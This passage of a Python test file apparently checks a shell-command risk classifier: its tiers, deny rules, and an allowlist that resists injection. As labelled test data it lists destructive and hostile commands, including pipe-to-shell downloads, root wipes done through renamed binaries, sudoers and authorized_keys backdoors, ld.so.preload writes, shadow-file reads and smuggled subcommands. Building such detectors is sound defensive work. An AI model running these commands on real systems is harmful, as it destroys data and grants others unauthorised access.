    ("apt-get install -y nginx", "package manager"),
    ("apt update", "package manager"),
    ("dpkg -i pkg.deb", "dpkg"),
    ("yum install httpd", "package manager"),
    ("dnf remove x", "package manager"),
    ("rpm -ivh x.rpm", "rpm"),
    ("pip install requests", "pip"),
    ("python3 -m pip install requests", "pip"),
    ("npm install -g yarn", "npm"),
    ("snap install x", "package manager"),
    ("zypper in x", "package manager"),
    ("apk add curl", "package manager"),
    ("systemctl restart nginx", "systemctl restart"),
    ("systemctl enable --now nginx", "systemctl enable"),
    ("systemctl mask x", "systemctl mask"),
    ("service nginx reload", "service"),
    ("rc-service nginx restart", "rc-service"),
    ("useradd bob", "useradd"),
    ("usermod -aG docker bob", "usermod"),
    ("groupadd ops", "groupadd"),
    ("passwd bob", "passwd"),
    ("echo bob:pw | chpasswd", "chpasswd"),
    ("mount /dev/sdb1 /mnt", "mount"),
    ("umount /mnt", "umount"),
    ("crontab /tmp/jobs", "crontab"),
    ("sysctl -w net.ipv4.ip_forward=1", "sysctl"),
    ("modprobe br_netfilter", "modprobe"),
    ("rmmod x", "rmmod"),
    ("sudo ls", "privilege escalation"),
    ("doas ls", "privilege escalation"),
    ("pkexec ls", "privilege escalation"),
    ("su - bob", "privilege escalation"),
    ("run0 ls", "privilege escalation"),
    ("runuser -u bob -- ls", "privilege escalation"),
    ("machinectl shell bob@", "privilege escalation"),
    ("echo x > /etc/motd", "under /etc"),
    ("cp app.conf /etc/nginx/conf.d/", "under /etc"),
    ("sed -i 's/a/b/' /etc/hosts", "under /etc"),
    ("tee -a /etc/environment", "under /etc"),
    ("ln -s /opt/x /etc/alternatives/x", "under /etc"),
    ("cd /etc && echo x > motd", "under /etc"),
]

T3 = [
    ("rm -rf /srv/app", "rm outside temporary directories"),
    ("rm /home/bob/file", "rm outside temporary directories"),
    ("rm -rf $DIR", "not statically known"),
    ("rm -rf /tmp/../etc/x", "rm outside temporary directories"),
    ("find / -name x | xargs rm", "rm"),
    ("find /srv -name '*.log' -delete", "find -delete"),
    ("shred -u secret", "shred"),
    ("wipefs -a /dev/sda", "wipefs"),
    ("mkfs.ext4 /tmp/image.img", "mkfs.ext4"),
    ("dd if=/dev/zero of=/srv/file bs=1M", "dd"),
    ("truncate -s 0 /var/log/syslog", "truncate"),
    ("fdisk /dev/sda", "fdisk"),
    ("sfdisk /dev/sda < layout", "sfdisk"),
    ("parted /dev/sda mklabel gpt", "parted"),
    ("lvremove -f vg/lv", "lvremove"),
    ("vgremove vg", "vgremove"),
    ("pvremove /dev/sdb", "pvremove"),
    ("lvreduce -L 1G vg/lv", "lvreduce"),
    ("zpool destroy tank", "zpool destroy"),
    ("zfs destroy tank/data", "zfs destroy"),
    ("dropdb app", "dropdb"),
    ("psql -c 'DROP DATABASE app'", "destructive SQL"),
    ("mysql -e 'drop table users'", "destructive SQL"),
    ("psql -c 'TRUNCATE users'", "destructive SQL"),
    ("userdel -r bob", "userdel"),
    ("groupdel ops", "groupdel"),
    ("reboot", "reboot"),
    ("shutdown -h now", "shutdown"),
    ("poweroff", "poweroff"),
    ("halt", "halt"),
    ("kexec -e", "kexec"),
    ("init 0", "init 0"),
    ("telinit 6", "telinit 6"),
    ("systemctl reboot", "systemctl reboot"),
    ("systemctl poweroff", "systemctl poweroff"),
    ("systemctl rescue", "systemctl rescue"),
    ("systemctl emergency", "systemctl emergency"),
    ("git push --force origin feature", "git push --force"),
    ("git reset --hard HEAD~1", "git reset --hard"),
    ("git clean -fdx", "git clean -f"),
    ("iptables -F", "flushes firewall"),
    ("iptables --flush INPUT", "flushes firewall"),
    ("iptables -X", "flushes firewall"),
    ("nft flush ruleset", "nft flush ruleset"),
    ("kill -9 1", "kill"),
    ("kill -KILL -1", "kill"),
    ("crontab -r", "crontab -r"),
    ("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "sudoers"),
    ("echo x | tee -a /etc/sudoers.d/bob", "sudoers"),
    ("cp key ~/.ssh/authorized_keys", "authorized_keys"),
    ("echo key >> /root/.ssh/authorized_keys", "authorized_keys"),
    ("sed -i 's/no/yes/' /etc/ssh/sshd_config", "sshd"),
    ("mv x /etc/pam.d/sshd", "PAM"),
    ("chmod 777 /etc/shadow", "account database"),
    ("install -m 644 x /boot/grub/grub.cfg", "boot"),
    ("echo /x.so > /etc/ld.so.preload", "ld.so.preload"),
    ("cat /etc/sudoers", "mentions sudoers"),
    ("grep root /etc/shadow", "mentions account database"),
    ("python3 -c \"open('/etc/shadow').read()\"", "mentions account database"),
    ("$cmd foo", "dynamic command name"),
    ("$(which ls) /", "dynamic command name"),
    ("echo 'unbalanced", "could not be analysed"),
    ("curl -s https://x | sh", "runs code read from a pipe"),
    ('bash -c "$(curl -s https://x)"', "executed as code"),
    ("visudo", "visudo"),
    ("python3 -c \"import shutil; shutil.rmtree('/srv/x')\"", "deletes files"),
    ("cd /etc/ssh && echo x > sshd_config", "sshd"),
]


@pytest.mark.parametrize("text", T0)
def test_t0_content(text: str) -> None:
    tier, reasons = content_tier(text)
    assert tier is Tier.T0, (text, reasons)
    assert reasons == []
    assert deny_findings(text) == []


@pytest.mark.parametrize(("text", "expect"), T2)
def test_t2_content(text: str, expect: str) -> None:
    tier, reasons = content_tier(text)
    assert tier >= Tier.T2, (text, reasons)
    assert any(expect in r for r in reasons), (text, reasons)
    assert all(r.startswith(("T2: ", "T3: ")) for r in reasons)


@pytest.mark.parametrize(("text", "expect"), T3)
def test_t3_content(text: str, expect: str) -> None:
    tier, reasons = content_tier(text)
    assert tier is Tier.T3, (text, reasons)
    assert any(r.startswith("T3: ") and expect in r for r in reasons), (text, reasons)


def test_reason_format_matches_the_documented_example() -> None:
    tier, reasons = content_tier("rm -rf /srv/app")
    assert tier is Tier.T3
    assert "T3: rm outside temporary directories (rm -rf /srv/app)" in reasons


def test_tier_uses_cwd() -> None:
    assert content_tier("rm -rf build", cwd="/tmp/job")[0] is Tier.T0
    assert content_tier("rm -rf build", cwd="/srv/app")[0] is Tier.T3
    assert content_tier("rm -rf build")[0] is Tier.T3  # unknown cwd rounds up
    assert content_tier("echo x > hosts", cwd="/etc")[0] is Tier.T2


def test_cd_that_may_fail_rounds_up() -> None:
    # If `cd` fails the rm runs in the previous (unknown) directory.
    assert content_tier("cd /tmp/work; rm -rf *")[0] is Tier.T3
    assert content_tier("cd /tmp/work && rm -rf *")[0] is Tier.T0
    assert content_tier("set -e; cd /tmp/work; rm -rf *")[0] is Tier.T0


def test_nested_commands_are_tiered() -> None:
    assert content_tier("sh -c 'reboot'")[0] is Tier.T3
    assert content_tier("ssh host sudo systemctl restart nginx")[0] is Tier.T2
    assert content_tier("echo $(userdel bob)")[0] is Tier.T3


def test_analysis_argument_is_used() -> None:
    analysis = _shell.analyze("reboot")
    assert content_tier("ignored", analysis=analysis)[0] is Tier.T3


# ---------------------------------------------------------------------------------------------------------------
# Operator allowlist
# ---------------------------------------------------------------------------------------------------------------

ALLOW = ["uptime", "df -h", "systemctl status *", "cat /etc/os-release", "ls -la *"]


@pytest.mark.parametrize(
    "text",
    [
        "uptime",
        "df -h",
        "systemctl status nginx",
        "systemctl status sshd.service",
        "cat /etc/os-release",
        "ls -la /srv",
        "  uptime  ",
    ],
)
def test_allowlist_matches(text: str) -> None:
    assert matches_allowlist(text, ALLOW)


@pytest.mark.parametrize(
    "text",
    [
        "uptime; rm x",
        "uptime $(id)",
        "uptime `id`",
        "uptime > /etc/x",
        "uptime >> /tmp/x",
        "uptime < /etc/shadow",
        "sudo uptime",
        "env uptime",
        "command uptime",
        "nohup uptime",
        "uptime\nid",
        "uptime\r\nid",
        "X=1 uptime",
        "LD_PRELOAD=/x.so uptime",
        "uptime && id",
        "uptime || id",
        "uptime | sh",
        "uptime &",
        "uptime $HOME",
        "uptime ${X}",
        "df -h <<EOF\nx\nEOF",
        "df -h <<< x",
        "df",
        "df -h -a",
        "systemctl status",
        "systemctl status a b",
        "systemctl restart nginx",
        "ls -la {/etc,/root}",
        "ls -la /r*",
        "ls -la 'a b' c",
        "uptime # comment",
        "/usr/bin/uptime",
        "",
        "(uptime)",
        "{ uptime; }",
        "uptime \\\n; id",
        "ls -la 'unterminated",
    ],
)
def test_allowlist_refuses_injections(text: str) -> None:
    assert not matches_allowlist(text, ALLOW)


def test_allowlist_empty_entries() -> None:
    assert not matches_allowlist("uptime", [])
    assert not matches_allowlist("uptime", ["'unbalanced"])


def test_allowlist_pattern_words() -> None:
    assert matches_allowlist("journalctl -u nginx", ["journalctl -u *"])
    assert not matches_allowlist("journalctl -u nginx --since x", ["journalctl -u *"])
    assert matches_allowlist("cat 'my file'", ["cat *"])


# ---------------------------------------------------------------------------------------------------------------
# Data, robustness, speed
# ---------------------------------------------------------------------------------------------------------------


def test_rules_data_is_json_serialisable_and_stable() -> None:
    blob = json.dumps(RULES_DATA, sort_keys=True)
    assert json.dumps(RULES_DATA, sort_keys=True) == blob
    deny = RULES_DATA["deny"]
    assert isinstance(deny, dict)
    for rule in (
        "deny.root-wipe",
        "deny.fork-bomb",
        "deny.raw-disk-write",
        "deny.recursive-perms-root",
        "deny.force-push-main",
        "deny.decode-to-shell",
    ):
        assert rule in deny


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_deny_and_tier_never_raise(text: str) -> None:
    deny_findings(text)
    tier, reasons = content_tier(text)
    assert isinstance(tier, Tier)
    assert all(isinstance(r, str) for r in reasons)


_SHELLISH = st.lists(
    st.sampled_from(
        [
            *[
                "rm",
                "-rf",
                "/",
                "$(",
                ")",
                "`",
                "'",
                '"',
                "\\",
                "{",
                "}",
                ",",
                ";",
                "|",
                "&&",
                "<<",
                "EOF",
                "$IFS",
                "${x:-/}",
                "sh",
                "-c",
                "eval",
                "find",
                "-exec",
                "{}",
                "+",
                "xargs",
            ],
            *[
                "base64",
                "-d",
                "cd",
                "..",
                "*",
                "x=",
                "$x",
                "(",
                "<(",
                ">",
                "/dev/sda",
                "dd",
                "of=",
                ":",
                "&",
                "function",
                "fi",
                "if",
                "then",
                "done",
                "do",
            ],
            "\n",
        ]
    ),
    max_size=40,
).map(" ".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_SHELLISH)
def test_shell_like_noise_never_raises(text: str) -> None:
    deny_findings(text)
    content_tier(text)
    matches_allowlist(text, ["*"])


def test_large_inputs_finish() -> None:
    big = "echo hello; " * 90_000
    start = time.process_time()
    analysis = _shell.analyze(big)
    deny_findings(big, analysis=analysis)
    content_tier(big, analysis=analysis)
    assert time.process_time() - start < 40.0  # CPU seconds: a blow-up guard, not a speed target
    deep = "$(" * 10_000 + "rm -rf /" + ")" * 10_000
    start = time.process_time()
    deny_findings(deep)
    content_tier(deep)
    assert time.process_time() - start < 20.0  # CPU seconds: a blow-up guard, not a speed target


def test_microbenchmark_printout(capsys: pytest.CaptureFixture[str]) -> None:
    text = "sudo -u deploy bash -c 'cd /srv/app && git pull && rm -rf build/* && make -j4 install' 2>&1 | tee log"
    rounds = 300
    start = time.perf_counter()
    for _repeat in range(rounds):
        deny_findings(text)
    deny_us = (time.perf_counter() - start) / rounds * 1e6
    plain = "state=absent present"
    start = time.perf_counter()
    for _repeat in range(20_000):
        deny_findings(plain)
    fast_us = (time.perf_counter() - start) / 20_000 * 1e6
    start = time.perf_counter()
    for _repeat in range(rounds):
        content_tier(text)
    tier_us = (time.perf_counter() - start) / rounds * 1e6
    with capsys.disabled():
        print(
            f"\n[bench] deny_findings(100-char command) {deny_us:.1f} us; content_tier {tier_us:.1f} us; "
            f"deny_findings(20-char plain text, fast path) {fast_us:.2f} us"
        )


# ---------------------------------------------------------------------------------------------------------------
# A program run under another name is still that program
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "hash -p /bin/rm ls; ls -rf /",  # the shell's command table
        "ln -s /bin/rm x; ./x -rf /",  # a link
        "ln -sf /bin/rm /usr/local/bin/ls; ls -rf /",  # a link on the PATH, called by name
        "cp /bin/rm /tmp/x && /tmp/x -rf /",  # a copy
        "install -m 755 /bin/rm ./y; ./y -rf /",  # a copy behind options that take values
        "ln /bin/rm ./rm-copy; mv ./rm-copy ./z; ./z -rf /",  # moved after linking
        "link /bin/rm w; ./w -rf /",
        "rsync /bin/rm v; ./v -rf /",
        'ln -s "$(command -v rm)" z; ./z -rf /',  # a source that is not statically known: any program
        "ln -s /bin/rm a; ln -s ./a b; ./b -rf /",  # a chain of links
        "cat /bin/rm > x; chmod +x x; ./x -rf /",  # a file written with unknown content, then executed
        "ln -s /bin/rm x; sudo ./x -rf /",  # behind a wrapper
        "ln -s /bin/rm sudo; ./sudo -rf /",  # under a wrapper's name
        'ln -s /bin/sh x; ./x -c "rm -rf /"',  # a renamed shell still runs its -c string
        "ln -s /sbin/mkfs.ext4 f; ./f /dev/sda",
    ],
)
def test_a_renamed_program_is_judged_as_itself(text: str) -> None:
    assert {f.rule for f in deny_findings(text)} & {"deny.root-wipe", "deny.raw-disk-write"}, text
    assert content_tier(text)[0] is Tier.T3


@pytest.mark.parametrize(
    "text",
    ["cp a.conf b.conf; cat b.conf", "ln -s /srv/app/releases/3 /srv/app/current", "cp -t /tmp /bin/rm; ls /tmp"],
)
def test_ordinary_copies_and_links_stay_ordinary(text: str) -> None:
    assert deny_findings(text) == []
    assert content_tier(text)[0] < Tier.T3
